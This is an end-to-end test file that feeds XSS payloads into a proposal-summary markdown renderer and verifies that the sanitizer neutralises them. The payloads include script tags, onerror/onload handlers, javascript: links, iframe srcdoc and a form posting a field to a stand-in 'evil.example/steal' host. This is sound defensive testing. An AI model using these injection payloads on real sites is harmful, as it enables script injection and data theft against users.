// Proposal summaries are written by anyone who makes a proposal: the detail page renders their
// markdown through a strict sanitizer. Each payload here would set window.__pwned or change the
// title if it ran; none may run, none of the dangerous elements or attributes may reach the DOM, no
// CSP violation may even be reported (raw HTML is shown as text and the rest sanitized before the
// browser parses anything), and ordinary markdown still renders.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { signIn, startE2E, type E2E } from './support.ts';

let e: E2E;
beforeAll(async () => {
  e = await startE2E();
  await signIn(e, 'demo');
}, 120_000);
afterAll(async () => e?.stop());

const ORDINARY = '**bold text**, a [safe link](https://forum.example.org/t/1) and\n\n- first\n- second\n';

const ATTACKS: Array<{ name: string; summary: string }> = [
  { name: 'script', summary: `${ORDINARY}\n<script>window.__pwned = 'script'; document.title = 'pwned'</script>` },
  { name: 'img-onerror', summary: `${ORDINARY}\n<img src="x" onerror="window.__pwned = 'img'; document.title = 'pwned'">\n\n![alt](javascript:window.__pwned='md-img')` },
  { name: 'javascript-link', summary: `${ORDINARY}\n[click me](javascript:window.__pwned='link') and <a href="JaVaScRiPt:window.__pwned=1">raw</a> and [data](data:text/html,<script>window.__pwned=2</script>)` },
  { name: 'svg-onload', summary: `${ORDINARY}\n<svg onload="window.__pwned = 'svg'"><circle r="5" /></svg> and <svg><script>window.__pwned='svg-script'</script></svg>` },
  { name: 'iframe', summary: `${ORDINARY}\n<iframe src="javascript:parent.__pwned='iframe'"></iframe><iframe srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>` },
  { name: 'form', summary: `${ORDINARY}\n<form action="https://evil.example/steal"><input name="seed" autofocus onfocus="window.__pwned='form'"><button formaction="javascript:window.__pwned=1">Send</button></form>\n<p style="position:fixed" onclick="window.__pwned='click'">styled</p>` },
];

const ids = new Map<string, bigint>();

beforeAll(async () => {
  for (const a of ATTACKS) ids.set(a.name, (await e.core.desk.openTestProposal({ title: `XSS test: ${a.name}`, summary: a.summary })).proposalId);
}, 60_000);

for (const a of ATTACKS) {
  it(`renders the ${a.name} summary without running or keeping anything dangerous`, async () => {
    const { page } = e;
    await page.goto(`${new URL(page.url()).origin}/#/proposals/${ids.get(a.name)}`);
    await page.getByRole('heading', { name: `XSS test: ${a.name}` }).waitFor({ timeout: 30_000 });
    const summary = page.getByTestId('summary');
    await summary.waitFor();
    await page.waitForTimeout(300); // time for an onerror/onload to fire, were it there

    expect(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)).toBeUndefined();
    expect(await page.title()).toBe('Neuron Desk');
    const found = await summary.evaluate((root) => {
      const bad = root.querySelectorAll('script, img, svg, math, iframe, form, input, button, style, object, embed, [style]');
      const attrs = Array.from(root.querySelectorAll('*')).flatMap((el) => Array.from(el.attributes).filter((at) => /^on/i.test(at.name) || at.name === 'src' || at.name === 'srcdoc' || at.name === 'action').map((at) => `${el.tagName}[${at.name}]`));
      const hrefs = Array.from(root.querySelectorAll('[href]')).map((el) => el.getAttribute('href')!).filter((h) => !/^https:\/\//.test(h));
      const links = Array.from(root.querySelectorAll('a[href]')).filter((el) => el.getAttribute('rel') !== 'noopener noreferrer' || el.getAttribute('target') !== '_blank').length;
      return { elements: Array.from(bad).map((el) => el.tagName), attrs, hrefs, links };
    });
    expect(found).toEqual({ elements: [], attrs: [], hrefs: [], links: 0 });

    // The ordinary markdown around the attack still renders.
    expect(await summary.locator('strong').first().textContent()).toBe('bold text');
    expect(await summary.getByRole('link', { name: 'safe link' }).getAttribute('href')).toBe('https://forum.example.org/t/1');
    expect(await summary.locator('li').allTextContents()).toEqual(['first', 'second']);
    // Raw HTML is shown as the text it is, never parsed.
    if (a.name === 'script') expect(await summary.textContent()).toContain('<script>window.__pwned');
    if (a.name === 'javascript-link') {
      // The dangerous link keeps its text, loses its target.
      expect(await summary.getByText('click me').evaluate((el) => el.hasAttribute('href'))).toBe(false);
      await e.screenshot('proposal-xss-link');
    }
    if (a.name === 'img-onerror') await e.screenshot('proposal-xss-img');
  });
}

it('caused no browser error (nothing ran, no CSP violation reported)', () => {
  expect(e.errors).toEqual([]);
});
